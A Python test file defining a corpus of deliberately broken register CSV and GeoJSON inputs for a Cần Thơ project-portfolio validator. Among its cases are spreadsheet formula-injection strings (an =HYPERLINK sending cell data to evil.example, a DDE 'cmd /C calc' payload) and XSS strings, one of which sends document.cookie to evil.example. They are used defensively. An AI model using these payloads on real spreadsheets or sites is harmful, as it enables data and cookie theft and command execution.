"""The bad-input corpus (issue 5): broken files people will really feed the tool.

Register cases are small copies built by ``make_register`` and then broken the way Excel, QGIS or a
hurried edit breaks them. Each one asserts the exact rule it breaks and that the one-line message
names the file, the row/id and the field, through ``validate()``, the CLI (in-process and as
``python -m portfolio validate``) and the loader the app uses (``portfolio.register.load`` raising
``RegisterError``, never anything else). Upload cases go through ``read_upload`` and must raise
``UploadError`` naming the file. Hostile text (HTML, JavaScript) is not an error: it is kept verbatim.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import re
import signal
import socket
import subprocess
import sys
import time
import unicodedata
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import geopandas as gpd
import pytest
import shapely
from shapely.geometry import Point

import portfolio._rows as rows_module
import portfolio.readers as readers_module
import portfolio.register as register_module
from portfolio import InputError, RegisterError, UploadError, bounded, schema
from portfolio._files import MAX_INPUT_BYTES
from portfolio.cli import main
from portfolio.register import load
from portfolio.upload import MAX_UPLOAD_BYTES, read_upload
from portfolio.validate import validate
from tests import hostile
from tests.conftest import (
    FIXTURE_BOUNDARY,
    ROOT,
    MakeRegister,
    base_row,
    fixture_geometries,
    fixture_geometries_with,
    fixture_rows,
)

Break = Callable[[Path, Path], None]


@dataclass(frozen=True)
class Bad:
    """A register broken in place by ``breaks(register, geodata)``."""

    name: str
    breaks: Break
    rule: str
    file: str  # "register", "geodata" (projects.geojson) or "boundary" (city_boundary.geojson)
    where: str
    field: str
    also: tuple[str, ...] = ()
    rows: list[dict[str, str]] | None = None
    geometries: dict[str, Any] | None = None


# --- ways to break a register ----------------------------------------------------------------------


def nothing(reg: Path, geo: Path) -> None:
    """The break is in the rows or geometries the case builds the register with."""


def register_text(reg: Path) -> str:
    return reg.read_bytes().decode("utf-8")


def rewrite(transform: Callable[[str], str | bytes]) -> Break:
    def apply(reg: Path, geo: Path) -> None:
        out = transform(register_text(reg))
        reg.write_bytes(out if isinstance(out, bytes) else out.encode("utf-8"))

    return apply


def redelimit(sep: str) -> Break:
    def apply(reg: Path, geo: Path) -> None:
        rows = list(csv.reader(io.StringIO(register_text(reg), newline="")))
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=sep).writerows(rows)
        reg.write_text(buffer.getvalue(), encoding="utf-8", newline="")

    return apply


def drop_column(name: str) -> Break:
    def apply(reg: Path, geo: Path) -> None:
        rows = list(csv.reader(io.StringIO(register_text(reg), newline="")))
        index = rows[0].index(name)
        buffer = io.StringIO()
        csv.writer(buffer).writerows([r[:index] + r[index + 1 :] for r in rows])
        reg.write_text(buffer.getvalue(), encoding="utf-8", newline="")

    return apply


def add_column(header: str, value: str = "") -> Break:
    def apply(reg: Path, geo: Path) -> None:
        rows = list(csv.reader(io.StringIO(register_text(reg), newline="")))
        buffer = io.StringIO()
        csv.writer(buffer).writerows([rows[0] + [header]] + [r + [value] for r in rows[1:]])
        reg.write_text(buffer.getvalue(), encoding="utf-8", newline="")

    return apply


def rename_column(old: str, new: str) -> Break:
    return rewrite(lambda text: text.replace(old, new, 1))


def to_cp1258(text: str) -> bytes:
    tones = "\u0300\u0301\u0303\u0309\u0323"
    out = []
    for char in unicodedata.normalize("NFC", text):
        parts = unicodedata.normalize("NFD", char)
        out.append(
            unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
            + "".join(c for c in parts if c in tones)
        )
    return "".join(out).encode("cp1258")


def geodata_json(transform: Callable[[dict[str, Any]], Any]) -> Break:
    def apply(reg: Path, geo: Path) -> None:
        path = geo / "projects.geojson"
        doc = transform(json.loads(path.read_text(encoding="utf-8")))
        path.write_text(doc if isinstance(doc, str) else json.dumps(doc), encoding="utf-8")

    return apply


def write_geodata_bytes(data: bytes) -> Break:
    def apply(reg: Path, geo: Path) -> None:
        (geo / "projects.geojson").write_bytes(data)

    return apply


def reencode_geodata(encoding: str) -> Break:
    def apply(reg: Path, geo: Path) -> None:
        path = geo / "projects.geojson"
        path.write_bytes(path.read_text(encoding="utf-8").encode(encoding))

    return apply


def oversize(reg: Path, geo: Path) -> None:
    with reg.open("r+b") as fh:
        fh.truncate(MAX_INPUT_BYTES + 1)  # sparse


def xlsx_saved_as_csv(reg: Path, geo: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    reg.write_bytes(buffer.getvalue())


def boundary_geometry(geometry: Any) -> Break:
    """Replace the city boundary's one feature geometry."""

    def apply(reg: Path, geo: Path) -> None:
        doc = {
            "type": "FeatureCollection",
            "features": [
                {"type": "Feature", "properties": {"name_en": "Cần Thơ City"}, "geometry": geometry}
            ],
        }
        (geo / "city_boundary.geojson").write_text(json.dumps(doc), encoding="utf-8")

    return apply


def boundary_crs(name: str) -> Break:
    """Give the (valid) fixture city boundary a ``crs`` member naming ``name``."""

    def apply(reg: Path, geo: Path) -> None:
        path = geo / "city_boundary.geojson"
        doc = json.loads(path.read_text(encoding="utf-8"))
        doc["crs"] = {"type": "name", "properties": {"name": name}}
        path.write_text(json.dumps(doc), encoding="utf-8")

    return apply


def with_crs(name: str) -> Break:
    return geodata_json(lambda doc: {**doc, "crs": {"type": "name", "properties": {"name": name}}})


def duplicate_feature(doc: dict[str, Any]) -> dict[str, Any]:
    return {**doc, "features": doc["features"] + [doc["features"][0]]}


def rows_with(index: int = 0, **overrides: str) -> list[dict[str, str]]:
    rows = fixture_rows()
    rows[index] = {**rows[index], **overrides}
    return rows


def geometries_with(**overrides: Any) -> dict[str, Any]:
    return fixture_geometries_with(**overrides)


R1 = "row 1 (id dt-923)"
R2 = "row 2 (id kcn-o-mon)"
R3 = "row 3 (id cang-cai-cui)"
LINE = fixture_geometries()["dt-923"]["coordinates"]

CORPUS: list[Bad] = [
    # structure and encoding
    Bad("semicolon-delimiter-excel-vi", redelimit(";"), "wrong_delimiter", "register", "header", ""),
    Bad("tab-delimiter", redelimit("\t"), "wrong_delimiter", "register", "header", ""),
    Bad(
        "ragged-row-unquoted-comma",
        rewrite(lambda t: t.replace("Cảng Cái Cui,", "Cảng Cái Cui, Cái Răng,", 1)),
        "ragged_row",
        "register",
        R3,
        "",
        also=("orphan_geometry",),
    ),
    Bad(
        "ragged-row-short",
        rewrite(lambda t: t.replace("\r\nkcn-o-mon", "\r\nkcn-o-mon,x\r\nkcn-o-mon", 1)),
        "ragged_row",
        "register",
        "row 2 (id kcn-o-mon)",
        "",
    ),
    Bad("utf8-bom-excel", rewrite(lambda t: b"\xef\xbb\xbf" + t.encode()), "bom", "register", "line 1", ""),
    Bad("windows-1258", rewrite(to_cp1258), "not_utf8", "register", "line 2", ""),
    Bad(
        "latin-1",
        rewrite(lambda t: t.replace("Nâng cấp, mở rộng Đường tỉnh", "Nâng").encode("latin-1", "replace")),
        "not_utf8",
        "register",
        "line 2",
        "",
    ),
    Bad("utf-16-unicode-text", rewrite(lambda t: t.encode("utf-16")), "not_utf8", "register", "line 1", ""),
    Bad("xlsx-saved-as-csv", xlsx_saved_as_csv, "not_text", "register", "", ""),
    Bad("empty-register", rewrite(lambda t: b""), "empty_file", "register", "", ""),
    Bad("register-over-the-limit", oversize, "too_large", "register", "", ""),
    Bad(
        "broken-quote",
        rewrite(lambda t: t.replace("Cảng Cái Cui", '"Cảng" Cái Cui', 1)),
        "csv_syntax",
        "register",
        "line 4",
        "",
    ),
    Bad(
        "nfd-vietnamese",
        nothing,
        "not_nfc",
        "register",
        R1,
        "name_vi",
        rows=rows_with(name_vi=unicodedata.normalize("NFD", "Nâng cấp, mở rộng Đường tỉnh 923")),
    ),
    # columns
    Bad(
        "missing-column", drop_column("funding_type"), "missing_column", "register", "header", "funding_type"
    ),
    Bad(
        "duplicated-column",
        add_column("status", "planned"),
        "duplicate_column",
        "register",
        "header",
        "status",
    ),
    Bad(
        "unknown-column",
        add_column("budget_vnd", "1000"),
        "unknown_column",
        "register",
        "header",
        "budget_vnd",
    ),
    Bad(
        "column-name-with-space",
        rename_column(",status,", ", status,"),
        "unknown_column",
        "register",
        "header",
        " status",
        also=("missing_column",),
    ),
    # years
    Bad(
        "year-as-text",
        nothing,
        "bad_year",
        "register",
        R1,
        "period_start",
        rows=rows_with(period_start="năm 2021"),
    ),
    Bad(
        "year-as-excel-float",
        nothing,
        "bad_year",
        "register",
        R1,
        "period_end",
        rows=rows_with(period_end="2025.0"),
    ),
    Bad(
        "start-after-end",
        nothing,
        "period_order",
        "register",
        R1,
        "period_start",
        rows=rows_with(period_start="2030", period_end="2021"),
    ),
    Bad(
        "year-1890",
        nothing,
        "implausible_year",
        "register",
        R1,
        "period_start",
        rows=rows_with(period_start="1890"),
    ),
    Bad(
        "year-2200",
        nothing,
        "implausible_year",
        "register",
        R1,
        "period_end",
        rows=rows_with(period_end="2200"),
    ),
    # vocabularies
    Bad(
        "unknown-status", nothing, "unknown_value", "register", R1, "status", rows=rows_with(status="ongoing")
    ),
    Bad(
        "status-as-vietnamese-label",
        nothing,
        "unknown_value",
        "register",
        R1,
        "status",
        rows=rows_with(status="Đang thi công"),
    ),
    Bad(
        "unknown-sector", nothing, "unknown_value", "register", R1, "sector", rows=rows_with(sector="highway")
    ),
    Bad(
        "unknown-funding-type",
        nothing,
        "unknown_value",
        "register",
        R1,
        "funding_type",
        rows=rows_with(funding_type="BOT"),
    ),
    # ids
    Bad(
        "duplicate-id",
        nothing,
        "duplicate_id",
        "register",
        "row 2 (id dt-923)",
        "id",
        rows=[base_row(), base_row(name_en="Copy of 923"), *fixture_rows()[1:]],
    ),
    Bad(
        "empty-id",
        nothing,
        "required",
        "register",
        "row 1",
        "id",
        rows=rows_with(id=""),
        also=("orphan_geometry",),
    ),
    # other cells
    Bad(
        "formula-hyperlink",
        nothing,
        "formula",
        "register",
        R1,
        "name_en",
        rows=rows_with(name_en='=HYPERLINK("http://evil.example/?"&A1,"Đường 923")'),
    ),
    Bad(
        "formula-at-sum",
        nothing,
        "formula",
        "register",
        R2,
        "notes",
        rows=rows_with(1, notes="@SUM(1+1)*cmd|' /C calc'!A0"),
    ),
    # issue 11: one rule for validation and export (portfolio._formula)
    *(
        Bad(
            f"formula-{label}",
            nothing,
            "formula",
            "register",
            R1,
            column,
            rows=rows_with(0, **{column: value}),
            also=("whitespace",),
        )
        for label, column, value in (
            ("no-break-space-equals", "name_en", '\u00a0=HYPERLINK("http://evil.example")'),
            ("space-equals", "name_en", " =1+1"),
            ("ideographic-space-minus", "location_vi", "\u3000-2+3"),
            ("fullwidth-equals", "name_en", '＝HYPERLINK("http://evil.example")'),
            ("fullwidth-plus", "owner", "＋84 292 3820 123"),
            ("fullwidth-minus", "location_vi", "－1+1"),
            ("fullwidth-at", "notes", "＠SUM(A1:A9)"),
            ("semicolon-equals", "notes", 'Xem thêm; =HYPERLINK("http://evil.example")'),
            ("comma-equals", "location_vi", "Ninh Kiều,=1+1"),
            ("semicolon-fullwidth-equals", "notes", "ghi chú;　＝1+1"),
        )
    ),
    Bad(
        "date-dd-mm-yyyy",
        nothing,
        "bad_date",
        "register",
        R1,
        "status_as_of",
        rows=rows_with(status_as_of="01/10/2021"),
    ),
    Bad(
        "decimal-comma",
        nothing,
        "bad_number",
        "register",
        R2,
        "official_area_ha",
        rows=rows_with(1, official_area_ha="45,5"),
    ),
    Bad(
        "alt-enter-in-name",
        nothing,
        "control_char",
        "register",
        R1,
        "name_vi",
        rows=rows_with(name_vi="Nâng cấp Đường tỉnh 923\n(giai đoạn 2)"),
    ),
    # numbers: one plain form (ASCII digits, at most one '.'); anything float() or pandas would also take
    # differently is refused with the row and column, never an internal error
    Bad(
        "number-with-underscore",
        nothing,
        "bad_number",
        "register",
        R1,
        "official_length_km",
        rows=rows_with(official_length_km="1_9.3"),
    ),
    Bad(
        "number-arabic-indic-digits",
        nothing,
        "bad_number",
        "register",
        R2,
        "official_area_ha",
        rows=rows_with(1, official_area_ha="\u0664\u0665"),
    ),
    Bad(
        "number-full-width-digits",
        nothing,
        "bad_number",
        "register",
        R1,
        "official_length_km",
        rows=rows_with(official_length_km="\uff11\uff12.\uff15"),
    ),
    Bad(
        "number-exponent",
        nothing,
        "bad_number",
        "register",
        R1,
        "official_length_km",
        rows=rows_with(official_length_km="1e3"),
    ),
    Bad(
        "number-nan",
        nothing,
        "bad_number",
        "register",
        R1,
        "official_length_km",
        rows=rows_with(official_length_km="NaN"),
    ),
    Bad(
        "number-infinity",
        nothing,
        "bad_number",
        "register",
        R2,
        "official_area_ha",
        rows=rows_with(1, official_area_ha="inf"),
    ),
    Bad(
        "number-plus-sign",
        nothing,
        "bad_number",
        "register",
        R1,
        "official_length_km",
        rows=rows_with(official_length_km="+12"),
    ),
    Bad(
        "number-trailing-dot",
        nothing,
        "bad_number",
        "register",
        R1,
        "official_length_km",
        rows=rows_with(official_length_km="12."),
    ),
    Bad(
        "number-400-digits",
        nothing,
        "bad_number",
        "register",
        R1,
        "official_length_km",
        rows=rows_with(official_length_km="9" * 400),
    ),
    Bad(
        "number-padded-with-spaces",
        nothing,
        "whitespace",
        "register",
        R1,
        "official_length_km",
        rows=rows_with(official_length_km=" 12 "),
    ),
    Bad(
        "year-arabic-indic-digits",
        nothing,
        "bad_year",
        "register",
        R1,
        "period_start",
        rows=rows_with(period_start="\u0662\u0660\u0662\u0661"),
    ),
    Bad(
        "year-with-underscore",
        nothing,
        "bad_year",
        "register",
        R1,
        "period_end",
        rows=rows_with(period_end="2_025"),
    ),
    Bad(
        "history-year-full-width",
        nothing,
        "bad_period_history",
        "register",
        R1,
        "period_history",
        rows=rows_with(period_history="202/KH-UBND=\uff12\uff10\uff12\uff11-2025"),
    ),
    # period_history against the period columns (README: columns as the most recent source gives them,
    # or as Phụ lục II of 202/KH-UBND does for its rows; history oldest first)
    Bad(
        "history-reversed",
        nothing,
        "period_history_order",
        "register",
        R1,
        "period_history",
        rows=rows_with(period_history="KH-UBND/2026=2026-2030; 202/KH-UBND=2021-2025"),
    ),
    Bad(
        "history-outside-entries-reversed",
        nothing,
        "period_history_order",
        "register",
        R1,
        "period_history",
        rows=rows_with(
            period_start="2023",
            period_end="2026",
            sources="KH-UBND/2026 (01/2026), mục II.4.2",
            period_history="ngoài: PLO 2026-02-24=2023-2026; ngoài: CafeF 2025-07-22=2023-2026",
        ),
    ),
    Bad(
        "history-date-day-first",
        nothing,
        "period_history_date",
        "register",
        R1,
        "period_history",
        rows=rows_with(
            period_start="2023",
            period_end="2026",
            sources="KH-UBND/2026 (01/2026), mục II.4.2",
            period_history="ngoài: CafeF 22/07/2025=2023-2026",
        ),
    ),
    Bad(
        "history-date-month-13",
        nothing,
        "period_history_date",
        "register",
        R1,
        "period_history",
        rows=rows_with(
            period_start="2023",
            period_end="2026",
            sources="KH-UBND/2026 (01/2026), mục II.4.2",
            period_history="ngoài: CafeF 2025-13=2023-2026",
        ),
    ),
    Bad(
        "period-not-in-history",
        nothing,
        "period_not_in_history",
        "register",
        R1,
        "period_start",
        rows=rows_with(
            period_start="2025",
            period_end="2028",
            sources="KH-UBND/2026 (01/2026), mục II.4.2",
            period_history="ngoài: Báo A 2020=2015-2018",
        ),
    ),
    Bad(
        "history-without-period",
        nothing,
        "period_not_in_history",
        "register",
        R1,
        "period_start",
        rows=rows_with(period_start="", period_end="", period_history="202/KH-UBND=2021-2025"),
    ),
    Bad(
        "period-is-an-older-entry",
        nothing,
        "period_not_current",
        "register",
        R1,
        "period_start",
        rows=rows_with(
            sources="KH-UBND/2026 (01/2026), mục II.4.2",
            period_history="202/KH-UBND=2021-2025; KH-UBND/2026=2026-2030",
        ),
    ),
    Bad(
        "annex-ii-row-holds-a-newer-period",
        nothing,
        "period_not_current",
        "register",
        R1,
        "period_start",
        rows=rows_with(
            period_start="2025",
            period_end="2030",
            period_history="202/KH-UBND=2021-2025; ngoài: VnExpress 2025-09-15=2025-2030",
        ),
    ),
    Bad(
        "precision-leading-zero",
        nothing,
        "bad_precision",
        "register",
        R1,
        "geocode_precision",
        rows=rows_with(geocode_precision="02"),
    ),
    Bad(
        "precision-full-width",
        nothing,
        "bad_precision",
        "register",
        R1,
        "geocode_precision",
        rows=rows_with(geocode_precision="\uff12"),
    ),
    # control characters: none in any cell; line breaks only in notes
    Bad(
        "tab-in-name",
        nothing,
        "control_char",
        "register",
        R1,
        "name_vi",
        rows=rows_with(name_vi="Nâng cấp\tĐường tỉnh 923"),
    ),
    Bad(
        "tab-in-notes",
        nothing,
        "control_char",
        "register",
        R2,
        "notes",
        rows=rows_with(1, notes="Diện tích\t300 ha"),
    ),
    Bad(
        "c1-next-line-in-location",
        nothing,
        "control_char",
        "register",
        R3,
        "location_vi",
        rows=rows_with(2, location_vi="Cái\x85Cui"),
    ),
    Bad(
        "c1-csi-in-owner",
        nothing,
        "control_char",
        "register",
        R1,
        "owner",
        rows=rows_with(owner="Sở\x9b31mGiao thông vận tải"),
    ),
    Bad(
        "line-separator-in-name",
        nothing,
        "control_char",
        "register",
        R1,
        "name_en",
        rows=rows_with(name_en="Provincial road\u2028923"),
    ),
    Bad(
        "zero-width-space-in-id-like-name",
        nothing,
        "control_char",
        "register",
        R1,
        "name_vi",
        rows=rows_with(name_vi="Đường tỉnh\u200b923"),
    ),
    Bad(
        "rtl-override-in-owner",
        nothing,
        "control_char",
        "register",
        R2,
        "owner",
        rows=rows_with(1, owner="Sở Xây dựng\u202e"),
    ),
    Bad(
        "bom-inside-a-cell",
        nothing,
        "control_char",
        "register",
        R3,
        "location_vi",
        rows=rows_with(2, location_vi="\ufeffCái Răng"),
    ),
    # encodings without a byte-order mark, and UTF-32
    Bad("utf-16le-no-bom", rewrite(lambda t: t.encode("utf-16-le")), "not_utf8", "register", "line 1", ""),
    Bad("utf-16be-no-bom", rewrite(lambda t: t.encode("utf-16-be")), "not_utf8", "register", "line 1", ""),
    Bad("utf-32-with-bom", rewrite(lambda t: t.encode("utf-32")), "not_utf8", "register", "line 1", ""),
    Bad("utf-32le-no-bom", rewrite(lambda t: t.encode("utf-32-le")), "not_utf8", "register", "line 1", ""),
    Bad(
        "utf-8-cut-mid-character",
        rewrite(lambda t: (t + "Cầ").encode()[:-1]),
        "not_utf8",
        "register",
        "line 5",
        "",
    ),
    Bad("geodata-utf-16le-no-bom", reencode_geodata("utf-16-le"), "not_utf8", "geodata", "line 1", ""),
    # giant cells
    Bad(
        "notes-over-csv-field-limit",
        nothing,
        "cell_too_long",
        "register",
        R2,
        "notes",
        rows=rows_with(1, notes="Ghi chú. " * 20_000),
    ),
    Bad(
        "name-over-excel-cell-limit",
        nothing,
        "cell_too_long",
        "register",
        R1,
        "name_en",
        rows=rows_with(name_en="x" * 32_768),
    ),
    # geometry
    Bad(
        "geometry-missing",
        nothing,
        "missing_geometry",
        "geodata",
        "id kcn-o-mon",
        "geometry",
        geometries=geometries_with(kcn_o_mon=None),
    ),
    Bad(
        "geometry-extra",
        nothing,
        "orphan_geometry",
        "geodata",
        "id cau-tran-hoang-na",
        "id",
        geometries=geometries_with(cau_tran_hoang_na={"type": "Point", "coordinates": [105.77, 10.02]}),
    ),
    Bad(
        "geometry-duplicated",
        geodata_json(duplicate_feature),
        "duplicate_geometry",
        "geodata",
        "id dt-923",
        "geometry",
    ),
    Bad(
        "geometry-empty",
        nothing,
        "empty_geometry",
        "geodata",
        "id dt-923",
        "geometry",
        geometries=geometries_with(dt_923={"type": "LineString", "coordinates": []}),
    ),
    Bad(
        "geometry-null",
        nothing,
        "missing_geometry",
        "geodata",
        "id cang-cai-cui",
        "geometry",
        geometries=geometries_with(cang_cai_cui=None) | {"cang-cai-cui": None},
    ),
    Bad(
        "self-intersecting-polygon",
        nothing,
        "invalid_geometry",
        "geodata",
        "id kcn-o-mon",
        "geometry",
        geometries=geometries_with(
            kcn_o_mon={
                "type": "Polygon",
                "coordinates": [
                    [[105.60, 10.10], [105.62, 10.12], [105.62, 10.10], [105.60, 10.12], [105.60, 10.10]]
                ],
            }
        ),
    ),
    Bad(
        "unclosed-ring",
        nothing,
        "unclosed_ring",
        "geodata",
        "id kcn-o-mon",
        "geometry",
        geometries=geometries_with(
            kcn_o_mon={
                "type": "Polygon",
                "coordinates": [[[105.60, 10.10], [105.62, 10.10], [105.62, 10.12], [105.60, 10.12]]],
            }
        ),
    ),
    Bad(
        "lat-lon-swapped",
        nothing,
        "swapped_coordinates",
        "geodata",
        "id dt-923",
        "geometry",
        geometries=geometries_with(dt_923={"type": "LineString", "coordinates": [[y, x] for x, y in LINE]}),
    ),
    Bad(
        "vn2000-metres-labelled-wgs84",
        nothing,
        "projected_coordinates",
        "geodata",
        "id cang-cai-cui",
        "geometry",
        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [593605.2, 1104877.9]}),
    ),
    Bad("crs-member-vn2000-utm", with_crs("urn:ogc:def:crs:EPSG::3405"), "wrong_crs", "geodata", "", "crs"),
    Bad(
        "point-at-1e300",
        nothing,
        "projected_coordinates",
        "geodata",
        "id cang-cai-cui",
        "geometry",
        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [1e300, 10]}),
    ),
    Bad(
        "point-tiny-and-long-decimals",
        nothing,
        "outside_region",
        "geodata",
        "id cang-cai-cui",
        "geometry",
        geometries=geometries_with(
            cang_cai_cui={"type": "Point", "coordinates": [105.12345678901234, 1e-300]}
        ),
    ),
    Bad(
        "area-mismatch-giant-official-area",
        nothing,
        "area_mismatch",
        "geodata",
        "id kcn-o-mon",
        "geometry",
        rows=rows_with(1, official_area_ha="1" + "0" * 300),
    ),
    Bad(
        "coordinate-400-digit-integer",
        geodata_json(lambda doc: json.dumps(doc).replace("105.8436", "1" + "0" * 400)),
        "bad_geometry",
        "geodata",
        "id cang-cai-cui",
        "geometry",
    ),
    Bad(
        "coordinate-5000-digit-integer",
        geodata_json(lambda doc: json.dumps(doc).replace("105.8436", "1" + "0" * 5000)),
        "bad_geometry",
        "geodata",
        "id cang-cai-cui",
        "geometry",
    ),
    Bad(
        "point-in-ha-noi",
        nothing,
        "outside_region",
        "geodata",
        "id cang-cai-cui",
        "geometry",
        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [105.8542, 21.0285]}),
    ),
    Bad(
        "road-drawn-as-polygon",
        nothing,
        "wrong_geometry_kind",
        "geodata",
        "id dt-923",
        "geometry",
        geometries=geometries_with(dt_923=fixture_geometries()["kcn-o-mon"]),
    ),
    # the city boundary: one valid polygon, or one problem (never an outside_city line per project)
    Bad(
        "boundary-is-a-point",
        boundary_geometry({"type": "Point", "coordinates": [105.75, 10.03]}),
        "wrong_geometry_kind",
        "boundary",
        "feature 1",
        "geometry",
    ),
    Bad(
        "boundary-is-a-line",
        boundary_geometry({"type": "LineString", "coordinates": LINE}),
        "wrong_geometry_kind",
        "boundary",
        "feature 1",
        "geometry",
    ),
    Bad(
        "boundary-bow-tie",
        boundary_geometry(
            {
                "type": "Polygon",
                "coordinates": [[[105.3, 9.8], [106.0, 10.4], [106.0, 9.8], [105.3, 10.4], [105.3, 9.8]]],
            }
        ),
        "invalid_geometry",
        "boundary",
        "feature 1",
        "geometry",
    ),
    Bad(
        "boundary-no-coordinates",
        boundary_geometry({"type": "Polygon", "coordinates": []}),
        "empty_geometry",
        "boundary",
        "feature 1",
        "geometry",
    ),
    Bad(
        "boundary-flat-ring",
        boundary_geometry(
            {"type": "Polygon", "coordinates": [[[105.3, 9.8], [106.0, 10.4], [105.3, 9.8], [105.3, 9.8]]]}
        ),
        "invalid_geometry",
        "boundary",
        "feature 1",
        "geometry",
    ),
    # the city boundary gets every check projects.geojson gets, and one problem, never an outside_city flood
    Bad(
        "boundary-unclosed-ring",
        boundary_geometry({"type": "Polygon", "coordinates": [FIXTURE_BOUNDARY[:-1]]}),
        "unclosed_ring",
        "boundary",
        "feature 1",
        "geometry",
    ),
    Bad("boundary-crs-vn2000", boundary_crs("EPSG:5897"), "wrong_crs", "boundary", "", "crs"),
    Bad(
        "boundary-position-as-text",
        boundary_geometry(
            {
                "type": "Polygon",
                "coordinates": [[FIXTURE_BOUNDARY[0], ["105.7", "10.0"], *FIXTURE_BOUNDARY[2:]]],
            }
        ),
        "bad_geometry",
        "boundary",
        "feature 1",
        "geometry",
    ),
    Bad(
        "boundary-lat-lon-swapped",
        boundary_geometry({"type": "Polygon", "coordinates": [[[y, x] for x, y in FIXTURE_BOUNDARY]]}),
        "swapped_coordinates",
        "boundary",
        "feature 1",
        "geometry",
    ),
    Bad(
        "boundary-shifted-out-of-region",
        boundary_geometry({"type": "Polygon", "coordinates": [[[x, y + 2] for x, y in FIXTURE_BOUNDARY]]}),
        "outside_region",
        "boundary",
        "feature 1",
        "geometry",
    ),
    Bad(
        "boundary-nan-coordinate",
        boundary_geometry(
            {
                "type": "Polygon",
                "coordinates": [[FIXTURE_BOUNDARY[0], [math.nan, 9.85], *FIXTURE_BOUNDARY[2:]]],
            }
        ),
        "bad_geometry",
        "boundary",
        "feature 1",
        "geometry",
    ),
    Bad("empty-geodata", write_geodata_bytes(b""), "empty_file", "geodata", "", ""),
    Bad(
        "geodata-not-json",
        write_geodata_bytes(b"id,lon,lat\ndt-923,105.7,10.0\n"),
        "bad_json",
        "geodata",
        "line 1",
        "",
    ),
]


def build(case: Bad, make_register: MakeRegister) -> tuple[Path, Path]:
    reg, geo = make_register(rows=case.rows, geometries=case.geometries)
    case.breaks(reg, geo)
    return reg, geo


def expected_file(case: Bad, reg: Path, geo: Path) -> str:
    return {
        "register": str(reg),
        "geodata": str(geo / "projects.geojson"),
        "boundary": str(geo / "city_boundary.geojson"),
    }[case.file]


def expected_line_start(case: Bad, reg: Path, geo: Path) -> str:
    return ": ".join(part for part in (expected_file(case, reg, geo), case.where, case.field) if part) + ": "


def test_corpus_size_and_names() -> None:
    assert len(CORPUS) + len(UPLOADS) >= 30
    assert len({c.name for c in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_validate(case: Bad, make_register: MakeRegister) -> None:
    reg, geo = build(case, make_register)
    problems = validate(reg, geo)
    assert {p.rule for p in problems} <= {case.rule, *case.also}, [str(p) for p in problems]
    matching = [p for p in problems if p.rule == case.rule]
    assert matching, [str(p) for p in problems]
    problem = matching[0]
    assert (problem.file, problem.where, problem.field) == (
        expected_file(case, reg, geo),
        case.where,
        case.field,
    )
    line = str(problem)
    assert line.startswith(expected_line_start(case, reg, geo))
    assert line.endswith(f" [{case.rule}]")
    assert "\n" not in line
    assert len(line) - len(problem.file) <= 400, line  # short enough to read: no cell or number in full


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_loader(case: Bad, make_register: MakeRegister) -> None:
    reg, geo = build(case, make_register)
    try:
        load(reg, geo)
    except RegisterError as exc:
        assert case.rule in {p.rule for p in exc.problems}
    else:
        pytest.fail("load() accepted a broken register")


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_cli_in_process(case: Bad, make_register: MakeRegister, capsys: pytest.CaptureFixture[str]) -> None:
    reg, geo = build(case, make_register)
    assert main(["validate", "--register", str(reg), "--geodata", str(geo)]) == 1
    out = capsys.readouterr()
    lines = out.err.splitlines()
    assert lines[-1].endswith("problem(s) found")
    assert any(
        line.startswith(expected_line_start(case, reg, geo)) and line.endswith(f"[{case.rule}]")
        for line in lines
    ), lines


#: Cases also run as a real ``python -m portfolio validate`` process (about 1.5 s each to start), one or
#: more of every kind; every case runs through the CLI in process above.
SUBPROCESS = (
    "semicolon-delimiter-excel-vi",
    "windows-1258",
    "register-over-the-limit",
    "xlsx-saved-as-csv",
    "missing-column",
    "year-1890",
    "formula-hyperlink",
    "duplicate-id",
    "geometry-missing",
    "lat-lon-swapped",
    "crs-member-vn2000-utm",
    "empty-geodata",
    "number-with-underscore",
    "tab-in-name",
    "utf-16le-no-bom",
    "notes-over-csv-field-limit",
    "point-at-1e300",
    "boundary-nan-coordinate",
)


def test_cli_subprocess(make_register: MakeRegister, tmp_path: Path) -> None:
    """``python -m portfolio validate`` on corpus cases: exit 1, the line, no traceback."""
    built = []
    for case in (c for c in CORPUS if c.name in SUBPROCESS):
        reg, geo = make_register(rows=case.rows, geometries=case.geometries, name=case.name)
        case.breaks(reg, geo)
        built.append((case, reg, geo))

    def run(item: tuple[Bad, Path, Path]) -> tuple[Bad, Path, Path, subprocess.CompletedProcess[str]]:
        case, reg, geo = item
        argv = [sys.executable, "-m", "portfolio", "validate", "--register", str(reg), "--geodata", str(geo)]
        result = subprocess.run(argv, capture_output=True, text=True, cwd=ROOT, timeout=300)
        return case, reg, geo, result

    assert len(built) == len(SUBPROCESS)
    with ThreadPoolExecutor(max_workers=3) as pool:
        results = list(pool.map(run, built))
    for case, reg, geo, result in results:
        assert result.returncode == 1, (case.name, result.stderr)
        assert "Traceback" not in result.stderr + result.stdout, case.name
        assert "Warning" not in result.stderr, (case.name, result.stderr)  # e.g. shapely's on a NaN
        lines = result.stderr.splitlines()
        assert any(
            line.startswith(expected_line_start(case, reg, geo)) and line.endswith(f"[{case.rule}]")
            for line in lines
        ), (case.name, lines)


def test_hostile_names_are_text_not_errors(make_register: MakeRegister) -> None:
    """HTML and JavaScript in names are allowed, and kept byte for byte for the renderer to escape."""
    hostile = {
        "name_vi": '<script>alert("xss")</script> Đường 923',
        "name_en": '<img src=x onerror="fetch(`//evil.example/${document.cookie}`)">',
        "location_vi": "${alert(1)} </textarea><svg onload=alert(2)>",
        "notes": "javascript:alert(3) &lt;b&gt; <!-- -->",
    }
    rows = fixture_rows()
    rows[0] = {**rows[0], **hostile}
    reg, geo = make_register(rows=rows)
    assert validate(reg, geo) == []
